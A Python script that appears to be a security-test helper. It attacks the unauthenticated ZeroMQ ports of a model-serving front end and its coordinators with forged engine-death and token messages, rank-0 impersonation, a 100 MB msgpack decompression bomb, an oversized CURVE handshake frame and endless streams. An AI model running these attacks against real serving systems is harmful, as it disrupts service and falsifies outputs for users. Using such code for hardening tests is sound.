"""Attacks on the ports of front ends and coordinators: ``python stranger.py ATTACK UID SECONDS ADDRESS...``

Everybody who reaches a port and knows no keys can do this. Prints "heard BYTES" for each answer, and "done" at the end,
which SIGTERM brings about. Addresses: inputs, outputs, handshake, reports, engines.
"""

from __future__ import annotations

import os
import signal
import socket
import sys
import time
from collections.abc import Callable
from contextlib import suppress
from itertools import cycle

import msgspec
import zmq

EMPTIES = 100_000_000
RANK_0 = b"\0\0"
_NULL = b"\xff" + bytes(8) + b"\x7f" + b"\x03\x01" + b"NULL".ljust(20, b"\0") + bytes(32)
_CURVE = b"\xff" + bytes(8) + b"\x7f" + b"\x03\x01" + b"CURVE".ljust(20, b"\0") + bytes(32)

_seconds = 0.0
_stopped: list[int] = []  # no lock: the next signal may come in the midst of this one's handler

pack = msgspec.msgpack.encode


def _until() -> Callable[[], bool]:
    """Return a function that returns whether an attack that begins now is over."""
    ends = time.monotonic() + _seconds
    return lambda: bool(_stopped) or time.monotonic() >= ends


def say(kind: int, address: int, *messages: list[bytes], identity: bytes = b"") -> Callable[..., None]:
    """Return an attack that sends messages to an address, given by its index, as often as there is time."""

    def attack(*addresses: str) -> None:
        with zmq.Context() as context, context.socket(kind) as peer:
            peer.linger = 0
            if identity:
                peer.routing_id = identity
            peer.connect(addresses[address])
            over = _until()
            while not over():
                for message in messages:
                    with suppress(zmq.Again):
                        peer.send_multipart(message, zmq.NOBLOCK)
                if kind in (zmq.DEALER, zmq.XSUB) and peer.poll(20):
                    print("heard", b"".join(peer.recv_multipart()).hex(), flush=True)
                time.sleep(0.02)

    return attack


def empties(inputs: str, outputs: str, *_: str) -> None:
    """Send 100 MB of empty arrays as outputs, which take 70 times as much when they are decoded."""
    message = b"\x92\x00\xdd" + EMPTIES.to_bytes(4, "big") + b"\x90" * EMPTIES
    with zmq.Context() as context, context.socket(zmq.PUSH) as peer:
        peer.linger = peer.sndtimeo = max(3000, int(1000 * _seconds))
        peer.connect(outputs)
        with suppress(zmq.Again):  # the front end has closed the connection
            peer.send(message, copy=False)


def stream(address: str, heads: list[bytes], parts: bytes) -> None:
    """Send bytes without an end; after a disconnection come back with the next beginning."""
    host, _, port = address.removeprefix("tcp://").rpartition(":")
    over = _until()
    begins = cycle(heads)
    while not over():
        with suppress(OSError), socket.create_connection((host.strip("[]"), int(port)), 1) as peer:
            peer.settimeout(0.5)
            peer.sendall(next(begins))
            while not over():
                peer.sendall(parts)
        time.sleep(0.01)


def handshake_frame(*addresses: str) -> None:
    """Stream a command of many gigabytes before any keys were shown."""
    for address in filter(None, addresses):
        stream(address, [_CURVE + b"\x06" + (1 << 40).to_bytes(8, "big")], bytes(1 << 20))


def _without_keys(kind: bytes) -> bytes:
    """Return a whole handshake without keys."""
    properties = b"\x0bSocket-Type" + len(kind).to_bytes(4, "big") + kind + b"\x08Identity" + bytes(4)
    return _NULL + b"\x04" + bytes([6 + len(properties)]) + b"\x05READY" + properties


def endless(*addresses: str) -> None:
    """Send parts without an end."""
    for address in filter(None, addresses):
        stream(address, [_without_keys(kind) for kind in (b"DEALER", b"XSUB", b"PUSH")], b"\x01\x00" * (1 << 16))


ATTACKS: dict[str, Callable[..., None]] = {
    "dead": say(zmq.PUSH, 1, [b"ENGINE_CORE_DEAD"]),
    "tokens": say(zmq.PUSH, 1, [pack([0, [{"request_id": "r", "token": 666, "finished": True}]])]),
    "rank": say(zmq.DEALER, 0, [b""], identity=RANK_0),
    "hello": say(zmq.DEALER, 2, [pack({"status": "HELLO", "local": True})], identity=RANK_0),
    "garbage": say(zmq.DEALER, 2, [b"\xc1"], [b"\xc1", b"", b""], identity=b"\x09\0"),
    "wave": say(zmq.PUSH, 3, [pack([0, [], None, 0.0, None, None, 2**63 - 1, None])]),  # beyond all numbers
    "subscribe": say(zmq.XSUB, 4, [b"\x01"]),
    "empties": empties,
    "handshake_frame": handshake_frame,
    "endless": endless,
}

if __name__ == "__main__":
    name, uid, seconds, *addresses = sys.argv[1:]
    _seconds = float(seconds)
    signal.signal(signal.SIGTERM, lambda number, _: _stopped.append(number))
    if int(uid) != os.geteuid():
        os.setgroups([])
        os.setgid(int(uid))
        os.setuid(int(uid))
    ATTACKS[name](*addresses)
    print("done", flush=True)
